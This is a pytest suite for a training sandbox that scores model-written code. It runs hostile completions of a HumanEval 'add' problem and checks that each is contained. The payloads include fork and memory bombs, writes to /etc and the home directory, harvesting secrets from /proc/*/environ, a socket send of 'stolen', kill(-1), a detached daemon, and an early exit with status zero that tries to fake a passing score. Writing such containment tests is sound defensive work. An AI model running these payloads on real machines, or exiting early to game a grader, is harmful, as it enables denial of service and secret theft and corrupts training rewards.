"""Attacks by model-written code, actually run, each shown contained.

Every attack is a completion of a real HumanEval-format problem (``add`` from tests/data/code_small.jsonl)
that would *pass* if the attack worked (it asserts its own success), so reward 0 means contained; where
the attack ends by raising, the reason names the exception class the harness saw (never its message).
Each test also checks the effect on the host directly (the file is not there, the listener saw no
connection, the victim process lives, no sandbox process is left) and that the run ended within its time
limit. The attacks of issue 17 (forged verdicts, IPC, nested namespaces, memfd, sockets, mounts, CPU
sessions, keyrings) are in tests/train/test_sandbox_verdict_attacks.py and
tests/train/test_sandbox_isolation_attacks.py.

The fork bomb only runs after the process cap has been shown to work with a bounded number of forks,
so a broken cap cannot take down the shared machine.
"""

from __future__ import annotations

import functools
import os
import secrets
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from ladtrain.sandbox import Limits, Sandbox, isolation_mode, runner
from ladtrain.sandbox.uids import UidPool
from ladtrain.tasks import get_task

# LAD_REQUIRE_SANDBOX=1 (for CI) turns the skip into a failure where isolation is missing
pytestmark = pytest.mark.skipif(isolation_mode() is None and os.environ.get("LAD_REQUIRE_SANDBOX") != "1",
                                reason="no isolation on this machine (needs root or user namespaces)")

DATA = Path(__file__).resolve().parents[1] / "data"
REPO = Path(__file__).resolve().parents[2]
WALL = 3.0
MARGIN = 3.0  # start-up and kill time allowed beyond the wall limit on a busy 2-core machine
UID_BASE = 991000 + (os.getpid() % 500) * 8  # uids only this test process uses


@pytest.fixture(autouse=True)
def own_uids(monkeypatch):
    monkeypatch.setattr(runner, "_UIDS", UidPool(UID_BASE))


@pytest.fixture(scope="module")
def task():
    return get_task(f"code_jsonl:{DATA / 'code_small.jsonl'},timeout={WALL},workers=2,test_every=0")


def sandbox_processes() -> list[int]:
    """Pids of processes running as this module's sandbox uids."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:  # the real uid (/proc/PID itself is root's once a process is not dumpable)
            uid = int(Path(f"/proc/{pid}/status").read_text().split("Uid:")[1].split()[0])
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError, ValueError):
            continue
        if UID_BASE <= uid < UID_BASE + 8 and state not in "ZX":
            found.append(int(pid))
    return found


def attack(task, code: str):
    """Run ``code`` at module level after a correct ``add``; return (score, seconds)."""
    problem = task.problems("train")[0]
    assert problem.reference["entry_point"] == "add"
    completion = "    return a + b\n\n\n" + textwrap.dedent(code)
    t0 = time.monotonic()
    score = task.score(problem, completion)
    elapsed = time.monotonic() - t0
    if isolation_mode() == "root":
        deadline = time.monotonic() + 2.0
        while sandbox_processes() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert sandbox_processes() == [], "a sandbox process outlived its run"
    return score, elapsed


def test_control_the_same_completion_without_an_attack_scores_one(task):
    score, elapsed = attack(task, "x = 1\n")
    assert score.reward == 1.0 and score.info == "passed" and elapsed < WALL


def test_attack_infinite_loop_is_stopped_at_the_wall_limit(task):
    score, elapsed = attack(task, "while True:\n    pass\n")
    assert score.reward == 0.0 and score.info == f"timeout after {WALL:g}s"
    assert elapsed < WALL + MARGIN


@functools.lru_cache(maxsize=1)
def process_cap_holds() -> tuple[bool, str]:
    """Run a *bounded* fork loop (at most 40 children, each exits in 2 s) and report whether it stopped
    at the cap; the real fork bomb runs only if this holds."""
    limits = Limits(wall_s=WALL, nproc=8)
    code = textwrap.dedent("""
        import os, time
        n = 0
        try:
            for _ in range(40):
                if os.fork() == 0:
                    time.sleep(2)
                    os._exit(0)
                n += 1
        finally:
            print(n, flush=True)
    """)
    r = Sandbox(limits).run(code)
    forked = int(r.stdout.strip() or -1)
    return (0 <= forked < limits.nproc and not r.passed and "BlockingIOError" in r.stderr), r.stderr


def test_process_cap_stops_a_bounded_fork_loop():
    held, reason = process_cap_holds()
    assert held, reason


def test_attack_fork_bomb_is_contained(task):
    held, reason = process_cap_holds()
    if not held:
        pytest.skip(f"process cap not shown to work ({reason}); not running a real fork bomb")
    score, elapsed = attack(task, """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """)
    assert score.reward == 0.0
    assert elapsed < WALL + MARGIN


def test_attack_memory_bomb_hits_the_address_space_limit(task):
    score, elapsed = attack(task, """
        hoard = []
        while True:
            hoard.append(bytearray(64 << 20))
            hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])
    """)
    assert score.reward == 0.0 and score.info in (
        "failed: the program did not load or define the function (MemoryError)",
        "failed: the program exited or died during a call", "failed: killed at the memory limit"), score.info
    assert elapsed < WALL + MARGIN


def test_attack_writing_outside_the_temporary_directory_changes_nothing(task):
    token = secrets.token_hex(6)
    name = f"lad_escape_{token}"
    new_files = [REPO / name, DATA / name, Path.home() / name, Path("/run/lock") / name, Path("/etc") / name,
                 Path("/usr") / name, Path("/var/tmp") / name]
    # /tmp and /dev/shm inside the sandbox are its own fresh tmpfs: writing there succeeds, and the
    # host's directories of the same name must stay untouched.
    private = [Path(d) / f"lad_escape_{token}" for d in ("/tmp", "/dev/shm")]
    existing = [REPO / "pyproject.toml", Path(__file__), Path("/etc/hostname")]
    before = {p: p.stat().st_mtime_ns for p in existing}
    score, _ = attack(task, f"""
        wrote = []
        for path in {[str(p) for p in new_files]!r}:
            try:
                with open(path, "w") as fh:
                    fh.write("escaped")
                wrote.append(path)
            except OSError:
                pass
        for path in {[str(p) for p in existing]!r}:
            try:
                open(path, "a").close()  # opening for append is the probe; nothing is written
                wrote.append(path)
            except OSError:
                pass
        for path in {[str(p) for p in private]!r}:
            open(path, "w").write("only the sandbox's own tmpfs")
        assert not wrote, "wrote outside the sandbox: " + " ".join(wrote)
        raise LookupError("no write outside the sandbox succeeded")
    """)
    reason = "failed: the program did not load or define the function (LookupError)"
    assert score.reward == 0.0 and score.info == reason, score.info
    assert [p for p in new_files + private if p.exists()] == []
    assert {p: p.stat().st_mtime_ns for p in existing} == before


def test_attack_reading_environment_secrets_finds_nothing(task, monkeypatch):
    secret = "sk-" + secrets.token_hex(12)
    monkeypatch.setenv("LAD_ATTACK_SECRET", secret)
    score, _ = attack(task, f"""
        import glob, os
        found = [k for k in os.environ if "SECRET" in k or "TOKEN" in k or "KEY" in k]
        paths = glob.glob("/proc/*/environ") + ["/proc/{os.getpid()}/environ", "/proc/{os.getppid()}/environ"]
        for path in paths:
            try:
                data = open(path, "rb").read()
            except OSError:
                continue
            if b"LAD_ATTACK_SECRET" in data:
                found.append(path)
        assert found, "no secret found"
    """)
    assert score.reward == 0.0 and score.info.endswith("(AssertionError)"), score.info


def test_attack_opening_a_socket_reaches_nothing(task):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    try:
        score, _ = attack(task, f"""
            import socket
            s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
            s.sendall(b"stolen")
        """)
        assert score.reward == 0.0 and score.info.endswith("(OSError)"), score.info
        listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


def test_attack_killing_the_parent_leaves_the_trainer_and_a_victim_alive(task):
    victim = subprocess.Popen(["sleep", "60"])
    try:
        score, _ = attack(task, f"""
            import os, signal
            reached = []
            for pid in ({os.getpid()}, {os.getppid()}, {victim.pid}, os.getppid()):
                if pid > 1:
                    try:
                        os.kill(pid, 0)  # permission probe: would a kill be allowed?
                        reached.append(pid)
                    except OSError:
                        pass
            try:
                os.kill({victim.pid}, signal.SIGKILL)
            except OSError:
                pass
            try:
                os.kill(-1, signal.SIGKILL)  # everything this uid can signal
            except OSError:
                pass
            assert reached, "no process outside the sandbox reachable"
        """)
        assert score.reward == 0.0
        assert victim.poll() is None, "the victim process was killed"
    finally:
        victim.kill()
        victim.wait()


@pytest.mark.parametrize("exit_code", ["import sys\nsys.exit(0)\n", "import os\nos._exit(0)\n", "quit()\n"])
def test_attack_exiting_early_with_status_zero_does_not_pass(task, exit_code):
    score, _ = attack(task, exit_code)
    assert score.reward == 0.0 and score.info in (
        "failed: the program did not load or define the function",
        "failed: the program exited or died during a call"), score.info


def test_attack_exit_inside_the_tested_function_does_not_pass(task):
    problem = task.problems("train")[0]
    score = task.score(problem, "    import sys\n    sys.exit(0)\n")
    assert score.reward == 0.0 and score.info == "failed: the program exited or died during a call"


def test_attack_huge_output_is_cut_off_quickly(task):
    score, elapsed = attack(task, """
        while True:
            print("x" * 65536)
    """)
    assert score.reward == 0.0 and score.info.startswith("output limit")
    assert elapsed < WALL


def test_attack_a_detached_daemon_dies_with_the_run(task):
    # attack() itself asserts that no process of the sandbox uids is left once the run is over
    score, elapsed = attack(task, """
        import os, time
        if os.fork() == 0:
            try:
                os.setsid()  # denied by the seccomp filter; the double fork detaches anyway
            except OSError:
                pass
            if os.fork() == 0:
                while True:
                    time.sleep(0.1)
            os._exit(0)
        time.sleep(0.3)
        raise RuntimeError("daemon started")
    """)
    assert score.reward == 0.0
    assert score.info == "failed: the program did not load or define the function (RuntimeError)"
    assert elapsed < WALL


def test_attack_a_fork_bomb_in_one_worker_does_not_starve_the_others(task):
    held, reason = process_cap_holds()
    if not held:
        pytest.skip(f"process cap not shown to work ({reason}); not running a real fork bomb")
    problems = list(task.problems("train"))
    bomb = ("    return a + b\n\n\nimport os\n"
            "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n")
    # the honest programs start a thread: with one uid shared by all workers the bomb would have used up
    # the process cap and the thread could not start (checked by hand with one shared uid: 2 of the 3
    # then fail with "can't start new thread")
    thread = "\n\nimport threading\nworker = threading.Thread(target=print)\nworker.start()\nworker.join()\n"
    batch = [problems[0]] + problems
    completions = [bomb] + [p.reference["canonical_solution"] + thread for p in problems]
    scores = task.score_batch(batch, completions)
    assert [s.reward for s in scores] == [0.0, 1.0, 1.0, 1.0], [s.info for s in scores]


CROSS_BOMB = """
import sys, time
sys.path.insert(0, {repo!r})
from ladtrain.sandbox import Limits, Sandbox
bomb = "import os\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass\\n"
print("started", flush=True)
print(Sandbox(Limits(wall_s=4.0)).run(bomb).reason, flush=True)
"""


def test_attack_a_fork_bomb_in_another_trainer_process_does_not_fail_honest_runs_here(task):
    """Two trainer processes on one host (e.g. torchrun ranks): a fork bomb scored in one while the other
    scores honest programs that start a thread. Contained three ways: each process has its own uid range
    (tests/train/test_sandbox.py shows two processes get disjoint ranges), each run its own user namespace
    (RLIMIT_NPROC counts per namespace) and, where there is a cgroup backend, its own pids.max."""
    held, reason = process_cap_holds()
    if not held:
        pytest.skip(f"process cap not shown to work ({reason}); not running a real fork bomb")
    other = subprocess.Popen([sys.executable, "-c", CROSS_BOMB.format(repo=str(REPO))],
                             stdout=subprocess.PIPE, text=True)
    try:
        assert other.stdout.readline().strip() == "started"
        time.sleep(0.5)  # the bomb is running
        problems = list(task.problems("train"))
        thread = ("\n\nimport threading\nworker = threading.Thread(target=print)\nworker.start()\n"
                  "worker.join()\n")
        scores = task.score_batch(problems, [p.reference["canonical_solution"] + thread for p in problems])
        assert [s.reward for s in scores] == [1.0, 1.0, 1.0], [s.info for s in scores]
        assert other.stdout.readline().strip() == f"timeout after {4.0:g}s"  # the bomb was still running
    finally:
        other.kill()
        other.wait()
